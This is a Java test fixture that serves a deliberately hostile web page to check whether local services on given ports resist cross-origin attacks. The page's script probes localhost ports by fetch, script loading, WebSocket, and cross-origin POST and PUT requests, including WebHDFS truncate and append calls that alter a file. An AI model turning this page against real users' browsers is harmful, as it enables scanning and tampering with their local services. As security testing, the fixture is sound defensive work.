import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

/**
 * A site of somebody else's, for e2e/hostile-page: serves one page that asks the ports by every way that a browser has, and prints
 * what the page could read.
 *
 * <p>Arguments: ports with commas between them. Prints its own port in the first line, then a line per way and port, then {@code
 * done}; ends after that, or after the seconds that the second argument says, 120 unless it is there.
 */
final class HostilePage {
    private static final String PAGE =
            """
            <!DOCTYPE html><title>hostile</title><body><script>
            const ports = [%s];
            const paths = ['/', '/webhdfs/v1/?op=LISTSTATUS', '/jmx', '/metrics', '/api/status'];
            const changes = ['/webhdfs/v1/kept.txt?op=TRUNCATE&newlength=0', '/webhdfs/v1/kept.txt?op=APPEND', '/'];
            const say = line => fetch('/say?' + encodeURIComponent(line));
            const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no('no answer'), 5000))]);
            const load = (kind, url) => new Promise((yes, no) => {
              const element = document.createElement(kind);
              element.onload = () => yes(); element.onerror = () => no('error');
              element.src = url; document.body.append(element);
            });
            (async () => {
              for (const port of ports) {
                const site = 'http://127.0.0.1:' + port;
                for (const path of paths) {
                  try { await say('READ ' + port + path + ' ' + (await (await soon(fetch(site + path))).text()).slice(0, 80)); }
                  catch (e) { await say('closed ' + port + path); }
                  try { await soon(load('script', site + path)); await say('SCRIPT ' + port + path); }
                  catch (e) { await say('closed script ' + port + path); }
                }
                for (const path of changes) {
                  try { await soon(fetch(site + path, {method: 'POST', mode: 'no-cors', body: 'hostile'})); } catch (e) { }
                  try {
                    await soon(fetch(site + path, {method: 'PUT', headers: {'X-XSRF-HEADER': 'x'}, body: 'hostile'}));
                    await say('PUT ' + port + path);
                  } catch (e) { }
                }
                await soon(new Promise((yes) => {
                  const socket = new WebSocket('ws://127.0.0.1:' + port + '/');
                  socket.onopen = () => { say('SOCKET ' + port); yes(); };
                  socket.onerror = () => yes();
                })).catch(() => { });
              }
              await say('done');
            })();
            </script>
            """;

    public static void main(String[] args) throws Exception {
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        CountDownLatch done = new CountDownLatch(1);
        server.createContext("/", exchange -> answer(exchange, PAGE.formatted(args[0])));
        server.createContext("/say", exchange -> {
            String line = URLDecoder.decode(exchange.getRequestURI().getRawQuery(), StandardCharsets.UTF_8);
            System.out.println(line.replaceAll("\\s+", " "));
            answer(exchange, "");
            if (line.equals("done")) {
                done.countDown();
            }
        });
        server.start();
        System.out.println(server.getAddress().getPort());
        done.await(args.length > 1 ? Long.parseLong(args[1]) : 120, TimeUnit.SECONDS);
        server.stop(0);
    }

    private static void answer(HttpExchange exchange, String text) throws IOException {
        try (exchange) {
            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            exchange.sendResponseHeaders(200, bytes.length == 0 ? -1 : bytes.length);
            exchange.getResponseBody().write(bytes);
        }
    }
}
